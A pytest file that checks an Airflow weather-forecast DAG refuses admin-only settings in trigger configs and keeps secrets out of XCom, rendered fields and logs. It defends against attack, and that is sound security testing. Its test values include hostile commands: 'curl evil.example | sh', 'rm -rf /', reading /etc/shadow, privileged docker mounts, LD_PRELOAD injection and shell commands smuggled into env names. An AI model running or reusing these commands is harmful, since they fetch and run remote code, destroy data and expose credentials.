"""A trigger is a forecaster's, deployment settings are an admin's; nothing secret leaves the deployment.

Whoever may trigger the DAG chooses a date, members, lead time, and a checkpoint and a bucket from
the deployment's lists. Backend, host settings (startup script, image, docker args, python, GPU
check, env...), connection ids and service account come only from AIFS_ENS_* variables, checked
when the DAG is parsed. A run conf naming one is refused by check_params before any host exists.
Host settings reach the tasks from the deployment when they run, never through XCom or task
arguments, so a secret in them appears in no XCom, rendered field or task log.
"""

from __future__ import annotations

import json
import subprocess

import pytest
from conftest import DAG_FILE, FORECAST_DAY, PINNED_TEST_CHECKPOINTS, TEST_BUCKETS, load_dag, local_deployment, run_conf, task_states

from aifs.orchestration.backends import remote_job
from aifs.orchestration.backends.base import BACKEND_NAMES
from aifs.orchestration.deployment import DeploymentSettings
from aifs.orchestration.params import BadParams, resolve_run_config

SECRET = "tok-3f9a7c1e5b2d-do-not-leak"

#: an admin-only key a trigger might try -> a value that would run code or reach a connection
ADMIN_ONLY = {
    "backend": "ssh",
    "host": {"scratch_dir": "/", "worker_python": "/bin/sh"},
    "gcp_conn_id": "someone_elses_connection",
    "service_account": "/etc/other-key.json",
    "ssh_conn_id": "prod_database",
    "startup_script": "curl evil.example | sh",
    "startup_script_path": "/etc/shadow",
    "docker_args": ["--privileged", "-v", "/:/host"],
    "env": {"LD_PRELOAD": "/tmp/x.so"},
    "python": "/tmp/evil",
    "gpu_check": "rm -rf /",
    "image": "evil/worker:latest",
    "entrypoint": ["sh", "-c", "id"],
    "worker_python": "/bin/sh",
    "impersonation_chain": "owner@project.iam.gserviceaccount.com",
    "checkpoint_identity": None,
}
#: where each belongs, as the refusal must say
WHERE = {"backend": "AIFS_ENS_BACKEND", "gcp_conn_id": "AIFS_ENS_GCP_CONN_ID", "service_account": "AIFS_ENS_SERVICE_ACCOUNT",
         "checkpoint_identity": "AIFS_ENS_CHECKPOINTS"}


def deployment(**env: str) -> DeploymentSettings:
    return DeploymentSettings.from_env(env)


def resolve(settings: DeploymentSettings, **params):
    return resolve_run_config(params, deployment=settings, dag_id="aifs_ens_forecast", run_id="manual__x", logical_date=FORECAST_DAY)


# -- what a trigger may not set ---------------------------------------------------------------------


@pytest.mark.parametrize("key", sorted(ADMIN_ONLY))
def test_a_conf_naming_an_admin_only_key_is_refused_saying_where_it_belongs(key):
    with pytest.raises(BadParams) as err:
        resolve(deployment(), members="1", **{key: ADMIN_ONLY[key]})
    where = WHERE.get(key, "AIFS_ENS_HOST")
    assert f"{key}: " in str(err.value) and f"set by the deployment ({where}), not by a trigger" in str(err.value)


def test_every_host_setting_of_every_backend_is_admin_only():
    """The list is not hand-kept: any setting a backend schema has is refused in a conf."""
    from aifs.orchestration.backends.base import backend_class

    for name in BACKEND_NAMES:
        for key in backend_class(name).SETTINGS_SCHEMA["properties"]:
            with pytest.raises(BadParams, match=rf"{key}: .*set by the deployment"):
                resolve(deployment(), **{key: "x"})
    # and no forecaster param shares a name with a host setting (it would be refused)
    params = set(deployment().param_specs)
    assert not params & {k for n in BACKEND_NAMES for k in backend_class(n).SETTINGS_SCHEMA["properties"]}


def test_a_run_conf_with_admin_only_keys_fails_at_check_params_and_no_host_is_made(
    dag, bucket, scratch, monkeypatch, alert_sink
):
    """Through Airflow: the conf passes the trigger-time check (Airflow lets unknown keys through),
    check_params refuses it naming each key, and create_host never runs."""
    from aifs.orchestration.backends.local import LocalBackend

    created = []
    original = LocalBackend.create_host
    monkeypatch.setattr(LocalBackend, "create_host", lambda self, run, log: created.append(run) or original(self, run, log))

    dr = dag.test(logical_date=FORECAST_DAY, run_conf={**run_conf(bucket, "tiny.ckpt", members="1"), **ADMIN_ONLY})

    states = task_states(dr)
    assert dr.state == "failed"
    assert states[("check_params", -1)] == "failed"
    assert states[("create_host", -1)] == "upstream_failed"
    assert created == [] and not scratch.exists()  # no host was made
    alert = next(m for m in alert_sink.messages if "check_params failed" in m["title"])
    for key in ADMIN_ONLY:
        assert f"{key}: " in alert["message"], f"the refusal does not name {key}:\n{alert['message']}"
    assert "host: set by the deployment (AIFS_ENS_HOST), not by a trigger" in alert["message"]


# -- what a trigger may choose: the deployment's buckets and checkpoints ----------------------------


def test_an_allowed_checkpoint_and_bucket_are_accepted_and_others_refused():
    settings = deployment(
        AIFS_ENS_BUCKETS='["team-forecasts", "team-scratch"]',
        AIFS_ENS_CHECKPOINTS=json.dumps({
            "ecmwf/aifs-ens-1.0": {"identity": "hf:3f1c2a9"},
            "/opt/aifs/checkpoints/aifs-ens-crps-1.0.ckpt": {"identity": "sha256:" + "ab" * 32},
        }),
    )
    assert settings.param_specs["bucket"]["enum"] == ["team-forecasts", "team-scratch"]
    assert settings.param_specs["checkpoint"]["enum"] == ["ecmwf/aifs-ens-1.0", "/opt/aifs/checkpoints/aifs-ens-crps-1.0.ckpt"]

    config = resolve(settings, bucket="team-scratch", checkpoint="/opt/aifs/checkpoints/aifs-ens-crps-1.0.ckpt")
    assert config["bucket"] == config["worker"]["bucket"] == "team-scratch"
    assert config["worker"]["checkpoint"] == "/opt/aifs/checkpoints/aifs-ens-crps-1.0.ckpt"
    assert config["worker"]["checkpoint_identity"] == "sha256:" + "ab" * 32  # the worker checks it loaded that one
    defaults = resolve(settings)
    assert (defaults["bucket"], defaults["worker"]["checkpoint"]) == ("team-forecasts", "ecmwf/aifs-ens-1.0")
    assert defaults["worker"]["checkpoint_identity"] == "hf:3f1c2a9"

    with pytest.raises(BadParams) as err:
        resolve(settings, bucket="aifs-aiquest-us-20251127", checkpoint="someone/else-model")
    assert "bucket: 'aifs-aiquest-us-20251127' is not one of ['team-forecasts', 'team-scratch']" in str(err.value)
    assert "checkpoint: 'someone/else-model' is not one of" in str(err.value)


def test_an_allowed_bucket_runs_under_airflow_and_a_not_allowed_one_is_refused_at_trigger_time(dag, scratch):
    from airflow.sdk.exceptions import ParamValidationError

    with pytest.raises(ParamValidationError, match="bucket"):
        dag.test(logical_date=FORECAST_DAY, run_conf=run_conf("not-on-the-list", "tiny.ckpt", members="1"))
    dr = dag.test(logical_date=FORECAST_DAY, run_conf=run_conf(TEST_BUCKETS[-1], "tiny.ckpt", members="1"),
                  mark_success_pattern="wait_for_inputs|plan|choose_environment|create_host|run_member|delete_host|verify")
    assert task_states(dr)[("check_params", -1)] == "success"
    assert not scratch.exists()


# -- deployment settings are checked when the DAG is parsed -----------------------------------------

GCE_HOST = {"project_id": "p", "zone": "us-central1-a", "service_account": "w@p.iam.gserviceaccount.com", "image": "img"}
MINIMAL_HOST = {
    "local": {},
    "ssh": {},
    "gce": GCE_HOST,
    "gke": {"project_id": "p", "location": "us-central1", "cluster_name": "c", "image": "img"},
}


def import_errors(monkeypatch, **env: str) -> str:
    from airflow.dag_processing.dagbag import DagBag

    for name, value in env.items():
        monkeypatch.setenv(name, value)
    bag = DagBag(dag_folder=str(DAG_FILE))
    return "\n".join(str(e) for e in bag.import_errors.values())


@pytest.mark.parametrize("backend", BACKEND_NAMES)
def test_an_env_name_with_shell_syntax_is_a_dag_import_error(backend, monkeypatch, airflow_db):
    host = {**MINIMAL_HOST[backend], "env": {"A;rm -rf /": "x", "GOOD_NAME": SECRET}}
    errors = import_errors(monkeypatch, AIFS_ENS_BACKEND=backend, AIFS_ENS_HOST=json.dumps(host))
    assert f"AIFS_ENS_HOST is not valid for the {backend} backend: env: variable name 'A;rm -rf /' is not a shell identifier" in errors
    assert SECRET not in errors


@pytest.mark.parametrize(
    "env, says",
    [
        ({"AIFS_ENS_BACKEND": "slurm"}, "AIFS_ENS_BACKEND must be one of local, ssh, gce, gke, got 'slurm'"),
        ({"AIFS_ENS_HOST": '{"device": "tpu"}'}, "AIFS_ENS_HOST is not valid for the local backend: device: 'tpu' is not one of"),
        ({"AIFS_ENS_HOST": '{"env": {"TOKEN": 12345678}}'}, "env.TOKEN: must be a string (value not shown"),
        ({"AIFS_ENS_BACKEND": "gce", "AIFS_ENS_HOST": "{}"}, "'project_id' is a required property"),
        ({"AIFS_ENS_HOST": "{not json"}, "AIFS_ENS_HOST is not valid JSON"),
        ({"AIFS_ENS_BUCKETS": "Bad Bucket"}, "AIFS_ENS_BUCKETS: not GCS bucket names: 'Bad Bucket'"),
        ({"AIFS_ENS_CHECKPOINTS": '{"x.ckpt": {"identity": "md5:00"}}'}, "AIFS_ENS_CHECKPOINTS['x.ckpt']: identity 'md5:00'"),
        ({"AIFS_ENS_PARAM_DEFAULTS": '{"host": {"startup_script": "x"}}'}, "host: set by the deployment (AIFS_ENS_HOST)"),
        ({"AIFS_ENS_PARAM_DEFAULTS": '{"image": "x"}'}, "image: a host setting of the ssh/gce/gke backend"),
        ({"AIFS_ENS_PARAM_DEFAULTS": '{"bucket": "elsewhere"}'}, "AIFS_ENS_PARAM_DEFAULTS['bucket']: 'elsewhere' is not one of"),
        ({"AIFS_ENS_PARALLEL_MEMBERS": "4"}, "AIFS_ENS_PARALLEL_MEMBERS=4 needs AIFS_ENS_BACKEND=gke"),
        # on a GPU host, plan and verify (in Composer, without the file) must compare identities, not names
        ({"AIFS_ENS_BACKEND": "gce", "AIFS_ENS_HOST": json.dumps(GCE_HOST),
          "AIFS_ENS_CHECKPOINTS": '{"/opt/a.ckpt": {"identity": null}}'},
         "AIFS_ENS_CHECKPOINTS: '/opt/a.ckpt' has no identity; on the gce backend every checkpoint needs one"),
    ],
    ids=["backend", "host-schema", "env-value", "gce-required", "host-json", "buckets", "identity",
         "defaults-host", "defaults-image", "defaults-bucket", "parallel", "gpu-host-identity"],
)
def test_a_broken_deployment_setting_is_a_dag_import_error_naming_it(env, says, monkeypatch, airflow_db):
    errors = import_errors(monkeypatch, **env)
    assert says in errors, errors
    assert "12345678" not in errors


def test_rendered_env_names_are_checked_and_values_quoted(tmp_path):
    """Where env is rendered into a job script: names must be identifiers, values reach the worker verbatim."""
    for render in (lambda env: remote_job.process_script(["true"], env=env),
                   lambda env: remote_job.docker_run_argv("job", "img", [], [], env=env)):
        with pytest.raises(ValueError, match="shell identifier|must match"):
            render({"A;touch pwned": "x"})
    value = "$(touch pwned); `touch pwned2` 'single' \"double\" \\ \n newline"
    script = remote_job.process_script(["python3", "-c", "import os, sys; sys.stdout.write(os.environ['AIFS_X'])"],
                                       env={"AIFS_X": value}, workdir=str(tmp_path))
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True)
    assert out.stdout == value
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# -- nothing secret leaves the deployment --------------------------------------------------------------


def test_host_secrets_are_in_no_xcom_rendered_field_or_log(
    airflow_db, emulator, worker_python, bucket, seed, tiny_checkpoint, scratch, monkeypatch, capfd, caplog
):
    """A whole run (one member of the tiny model) with a secret in the host's env: the worker gets it,
    and it is nowhere in the run's XComs, rendered template fields or task logs."""
    import logging

    from airflow.models.renderedtifields import RenderedTaskInstanceFields
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from sqlalchemy import select

    from aifs.orchestration.backends.local import LocalBackend

    caplog.set_level(logging.DEBUG)
    for name, value in local_deployment(scratch, env={"AIFS_TEST_TOKEN": SECRET}).items():
        monkeypatch.setenv(name, value)
    handed = []
    original_env = LocalBackend._env
    monkeypatch.setattr(LocalBackend, "_env", lambda self: handed.append(original_env(self)) or handed[-1])
    seed(bucket, "20250601_0000", "1")
    dag = load_dag()

    dr = dag.test(logical_date=FORECAST_DAY, run_conf=run_conf(bucket, tiny_checkpoint, members="1", lead_time=12))

    assert dr.state == "success", task_states(dr)
    assert handed and all(env["AIFS_TEST_TOKEN"] == SECRET for env in handed), "the worker did not get the host's env"
    with create_session() as session:
        xcoms = session.scalars(select(XComModel).where(XComModel.dag_id == dag.dag_id, XComModel.run_id == dr.run_id)).all()
        rendered = session.scalars(
            select(RenderedTaskInstanceFields).where(
                RenderedTaskInstanceFields.dag_id == dag.dag_id, RenderedTaskInstanceFields.run_id == dr.run_id
            )
        ).all()
        xcom_text = {(x.task_id, x.key): json.dumps(x.value, default=str) for x in xcoms}
        rendered_text = {(r.task_id, r.map_index): json.dumps(r.rendered_fields, default=str) for r in rendered}
    config = next(json.loads(v) for (task, key), v in xcom_text.items() if task == "check_params" and key == "return_value")
    assert "host" not in config and config["backend"] == "local"
    assert {task for task, _ in rendered_text} >= {"wait_for_inputs", "plan", "create_host", "run_member", "delete_host"}
    out, err = capfd.readouterr()
    logs = out + err + caplog.text
    assert "[MANIFEST]" in logs and "worker environment ok" in logs, "the task logs were not captured"
    for where, texts in (("XCom", xcom_text), ("rendered fields", rendered_text), ("logs", {"": logs})):
        leaks = [k for k, text in texts.items() if SECRET in str(text)]
        assert not leaks, f"the host's secret is in {where}: {leaks}"


def test_the_gke_member_task_keeps_env_values_out_of_its_template_fields(monkeypatch, airflow_db):
    """On gke the member task is a pod operator, whose ``env_vars`` is a template field: Airflow would
    store it with the run's rendered fields. The env reaches the pod only when the member runs."""
    host = {**MINIMAL_HOST["gke"], "env": {"HF_TOKEN": SECRET}}
    monkeypatch.setenv("AIFS_ENS_BACKEND", "gke")
    monkeypatch.setenv("AIFS_ENS_HOST", json.dumps(host))
    monkeypatch.setenv("AIFS_ENS_CHECKPOINTS", PINNED_TEST_CHECKPOINTS)
    dag = load_dag()
    mapped = dag.get_task("run_member")
    op = mapped.operator_class(task_id="run_member_probe", config={"backend": "gke"}, member=1, member_timeout_s=3600)
    assert "env_vars" in op.template_fields
    fields = {name: repr(getattr(op, name, None)) for name in op.template_fields}
    assert not [name for name, text in fields.items() if SECRET in text], fields
    for task in dag.tasks:
        assert SECRET not in repr(getattr(task, "partial_kwargs", {})) + repr([getattr(task, f, None) for f in task.template_fields])


# -- the documented deployments are valid ones ----------------------------------------------------------


def test_the_guides_env_file_and_the_compose_stack_are_valid_deployments():
    import re

    import yaml

    repo = DAG_FILE.parents[1]
    guide = (repo / "docs" / "operators-guide.md").read_text()
    env_yaml = re.search(r"```yaml\n(# env\.yaml.*?)```", guide, flags=re.DOTALL).group(1)
    placeholders = {'"BUCKET"': '"team-bucket"', "CHECKPOINT_SHA256": "0" * 64, "CHECKPOINT_COMMIT": "a" * 40}
    for placeholder, value in placeholders.items():  # a placeholder in capitals is no bucket name, no hash
        env_yaml = env_yaml.replace(placeholder, value)
    env_file = yaml.safe_load(env_yaml)
    settings = DeploymentSettings.from_env({k: str(v) for k, v in env_file.items()})
    assert settings.backend == "gce" and settings.get_backend().settings["gpu"] == "a100-80gb"
    config = resolve(settings, bucket="team-bucket", checkpoint="/opt/aifs/checkpoints/aifs-ens-crps-1.0.ckpt")
    assert config["backend"] == "gce" and "host" not in config

    compose = yaml.safe_load((repo / "docker-compose.yaml").read_text())
    env = {k: str(v) for k, v in compose["services"]["airflow-scheduler"]["environment"].items()}
    conf = json.loads(re.search(r"--conf \\\n#\s+'(\{.*?\})'", (repo / "docker-compose.yaml").read_text(), flags=re.DOTALL)
                      .group(1).replace("\n#", ""))
    assert resolve(DeploymentSettings.from_env(env), **conf)["bucket"] == "aifs-demo"
